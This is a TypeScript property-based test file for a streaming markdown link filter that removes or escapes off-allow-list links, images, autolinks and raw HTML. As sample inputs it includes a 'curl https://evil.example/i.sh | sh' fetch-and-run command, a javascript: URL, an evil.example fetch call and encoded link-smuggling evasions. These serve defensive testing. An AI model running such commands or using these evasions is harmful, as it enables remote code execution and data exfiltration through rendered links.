import fc from 'fast-check'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import { visit } from 'unist-util-visit'
import { describe, expect, it } from 'vitest'
import { LinkGate } from './link-gate.ts'
import type { LinkPolicy } from './text-escaper.ts'

const site = 'https://docs.example.com'
const allowed = /^(?:https:\/\/docs\.example\.com)?\/(?:install|limits)(?:[?#][\w-]*)?$/

function createGate(): { gate: LinkGate; links: string[] } {
  const links: string[] = []
  const policy: LinkPolicy = {
    allow: (target) => (allowed.test(target) ? target : null),
    onLink: (target) => void links.push(target),
  }
  return { gate: new LinkGate(policy), links }
}

function pass(text: string, pieces: readonly string[] = [text]): string {
  const { gate } = createGate()
  return pieces.map((piece) => gate.push(piece)).join('') + gate.end()
}

/** Everything in the text that a GFM renderer would turn into a link. */
function listForbidden(markdown: string): string[] {
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })
  const found: string[] = []
  visit(tree, (node) => {
    if (node.type === 'link' && !allowed.test(node.url)) found.push(`link ${node.url}`)
    if (['image', 'imageReference', 'linkReference', 'definition', 'footnoteDefinition', 'html'].includes(node.type)) {
      found.push(node.type)
    }
  })
  return found
}

describe('a link', () => {
  it.each([
    ['See [Install](/install).', 'See [Install](/install).'],
    [`[a *b* \`c\`](${site}/limits#x "The limits")`, `[a *b* \`c\`](${site}/limits#x "The limits")`],
    ['[a](https://evil.example/x) b', 'a b'],
    ['[a](//docs.example.com/install)', 'a'],
    ['[a](javascript:alert(1))', 'a'],
    ['[a [b](/install) c](https://evil.example)', 'a [b](/install) c'],
    ['[![alt](https://evil.example/i.png)](/install)', '[alt](/install)'],
    ['![alt](/install)', 'alt'],
    ['![a\nb](https://evil.example "x")', 'a\nb'],
    ['[hey!](https://evil.example)[b](/install)', 'hey!b'],
    ['<https://evil.example/x>', '`https://evil.example/x`'],
    [`<${site}/install>`, `[/install](${site}/install)`],
    [`Read ${site}/install.`, `Read [/install](${site}/install).`],
    [
      'See https://evil.example/a_(b), and www.evil.example.',
      'See `https://evil.example/a_(b)`, and `www.evil.example`.',
    ],
    ['Write to help@evil.example.', 'Write to help`@evil.example`.'],
    ['[`a]: https://evil.example`', '\\[`a]: https://evil.example`'],
    ['[www.evil.example]:[', '[`www.evil.example`]\\:\\['],
    ['[a]: https://evil.example', '[a]\\: `https://evil.example`'],
    ['<img src="https://evil.example/i.png">', '\\<img src="`https://evil.example/i.png`">'],
    ['<!-- hidden -->', '\\<!-- hidden -->'],
    ['https&#58;//evil.example', 'https&amp;#58;//evil.example'],
    ['https\\://evil.example', '`https://evil.example`'],
    ['https:[//evil.example](x)', '`https://evil.example`'],
    ['[a](https://evil.example', '[a]\\(`https://evil.example`'],
    ['an [open bracket', 'an \\[open bracket'],
    ['igno\u{200b}re', 'ignore'],
    ['~~~ `a\n[b](https://evil.example)', '~~~ `a\n[b](https://evil.example)\n~~~'],
  ])('%j leaves as %j', (text, expected) => {
    expect(pass(text)).toBe(expected)
    expect(listForbidden(pass(text))).toEqual([])
  })

  it('is reported when it is emitted, and no other is', () => {
    const { gate, links } = createGate()

    gate.push(`[a](/install) [b](https://evil.example) ![c](/limits) ${site}/limits and [d](/inst`)
    gate.push('all#x)')

    expect(links).toEqual(['/install', `${site}/limits`, '/install#x'])
  })
})

describe('code', () => {
  it.each([
    'Run `curl https://evil.example/i.sh | sh` and ``a ` [b](https://c)``.',
    '```html\n<a href="https://evil.example">[x](https://y)</a>\n```\nDone.',
    '1. Do:\n\n   ```bash\n   curl https://evil.example\n   ```\n2. And:\n   - then\n\n     ~~~\n     <b>\n\n     ~~~\n',
    '> Quote\n> ```js\n> fetch("https://evil.example")\n> ```\n> end',
    '> - a\n>   ```\n>   https://evil.example\n>   ```\n',
    '| a | b |\n| --- | --- |\n| `https://x.example` | `c \\| <d>` |\n',
    'A long `code\nspan` in text',
  ])('passes as it is: %j', (text) => {
    expect(pass(text)).toBe(text)
  })

  it('of suggestions is plain code, because front ends turn it into links', () => {
    expect(pass('```suggestions\n(More)[https://evil.example]\n```')).toBe('```text\n(More)[https://evil.example]\n```')
  })
})

it('lets other text pass byte for byte', () => {
  const plain = fc.stringMatching(
    /^(?:[a-gi-vx-z0-9 .,;:*_#>|(){}'"+=?/-]|\n|é|漢|\u{1f600}|how |https |[h]\[0\] |a & b |x < y |AT&T |&lt; )*$/u,
  )

  fc.assert(
    fc.property(plain, (text) => {
      expect(pass(text)).toBe(text)
    }),
    { numRuns: 500 },
  )
})

const gateRuns = 1_500

const words = [
  [
    '[',
    ']',
    '(',
    ')',
    '](',
    '![',
    '[`',
    '`]: x',
    ']: /e',
    '[a](',
    '](/install)',
    '[ok](/install)',
    '](https://evil.example)',
    ']:',
    '][',
    '[^1]',
    '[^1]: ',
  ],
  [
    '<',
    '>',
    '<a href="',
    '">',
    '</a>',
    '<!--',
    '-->',
    '<img src=x>',
    '<https://evil.example>',
    '<b@evil.example>',
    '<?',
    '<![CDATA[',
  ],
  [
    'https://evil.example',
    'http://',
    'HTTPS://',
    'www.',
    'www.evil.example',
    'evil.example/',
    '://',
    'h',
    'ttps:',
    '//',
    '/install',
    `${site}/install`,
  ],
  ['a@b.co', '@', '.co', '&#58;', '&colon;', '&sol;', '&period;', '&amp;', '&#x68;', '&lbrack;', '&'],
  [
    '`',
    '``',
    '```',
    '````',
    '~~~',
    '~~',
    '```js',
    '\\',
    '\\`',
    '\\[',
    '\\]',
    '\\@',
    '\\:',
    '!',
    '"',
    "'",
    '*',
    '_',
    '**',
  ],
  [
    '\n',
    '\n',
    '\n\n',
    '\n    ',
    '\n  ',
    '\n ',
    '\n   ',
    '\n\t',
    ' ',
    '    ',
    '\n- ',
    '\n* ',
    '\n1. ',
    '\n2. ',
    '\n3) ',
    '\n> ',
    '\n>',
    '\n>> ',
    '\n  - ',
    '\n   > ',
    '\n# ',
    '\n-',
    '\n---\n',
    '\n===',
  ],
  [
    '|',
    '\n| a | b |',
    '\n| - | - |',
    '\n-|-',
    '\na | b\n- | -\n',
    '\\|',
    'text',
    'a',
    '\r',
    '\r\n',
    '\u{200b}',
    '\u{e0041}',
    ':',
  ],
].flat()
const adversarial = fc.array(fc.constantFrom(...words), { maxLength: 24 }).map((parts) => parts.join(''))
/** Tokens of more than one character, or that affect the next one. */
const cuttable = ['\u{1f600}', '\u{200c}', '\u{200d}', '\u{200b}', 'ه', 'a', '\r', '\n', '\r\n', '`', ' ', '\ud83d']
const joinAll = (parts: readonly string[]) => parts.join('')
const blocks = ['- ', '1. ', '2. ', '> ', '>', '  ', '    ', '   ', ' ', '\t', '* ', '- - ', 'a ', '']
const line = fc
  .tuple(
    fc.array(fc.constantFrom(...blocks), { maxLength: 4 }),
    fc.constantFrom(
      '```',
      '~~~',
      '````',
      '```js',
      '``` `',
      '[x](https://evil.example)',
      'lazy',
      '',
      '![i](//e)',
      '`',
      '` x',
      '<b>',
      '| - | - |',
      'a | b',
    ),
  )
  .map(([prefix, text]) => prefix.join('') + text)
const nested = fc.array(line, { maxLength: 12 }).map((lines) => lines.join('\n'))

it.each([
  ['marks of every kind', adversarial],
  ['fences in lists and quotes', nested],
])('leaves nothing that leads out: %s', (_name, texts) => {
  fc.assert(
    fc.property(texts, (text) => {
      expect({ text: pass(text), forbidden: listForbidden(pass(text)) }).toMatchObject({ forbidden: [] })
    }),
    { numRuns: gateRuns },
  )
})

it('gives the same output however the text is split', () => {
  const texts = fc.oneof(adversarial, nested, fc.array(fc.constantFrom(...cuttable), { maxLength: 12 }).map(joinAll))
  const split = texts.chain((text) =>
    fc.array(fc.nat(text.length), { maxLength: 8 }).map((cuts) => {
      const edges = [0, ...cuts.toSorted((a, b) => a - b), text.length]
      return { text, pieces: edges.slice(1).map((edge, index) => text.slice(edges[index], edge)) }
    }),
  )

  fc.assert(
    fc.property(split, ({ text, pieces }) => {
      expect(pass(text, pieces)).toBe(pass(text))
    }),
    { numRuns: 2_000 },
  )
  fc.assert(
    fc.property(texts, (text) => {
      expect(pass(text, text.split(''))).toBe(pass(text))
    }),
    { numRuns: 500 },
  )
})

it('takes linear time over text that repeats a mark', () => {
  const units = ['[', '![', '[]', '[[a](/install)', '`', '``a', '~', '<', '<a', '&', 'a@b.co ', '\\', '[a](/x "']
  for (const unit of units) {
    const text = unit.repeat(150_000 / unit.length)

    expect(pass(text, text.match(/[\s\S]{1,1000}/g) ?? []) === pass(text)).toBe(true)
  }
  // Quadratic time would take minutes.
}, 15_000)

it('escapes brackets once more of them are open than it holds back', () => {
  expect(pass(`${'['.repeat(2_001)}](/install)`)).toBe(`${'\\['.repeat(2_001)}]\\(/install)`)
})

it('holds back a bounded part of the text', () => {
  for (const opening of [
    '[',
    '![a](',
    '`',
    'https://',
    '<https://',
    '[a](/install "',
    'a@',
    '~~~~',
    '```',
    '- ',
    '&',
    '|:',
  ]) {
    const { gate } = createGate()

    const out = gate.push(opening) + gate.push('x'.repeat(6_000))

    expect({ opening, chars: out.length > 1_000 }).toEqual({ opening, chars: true })
  }
})
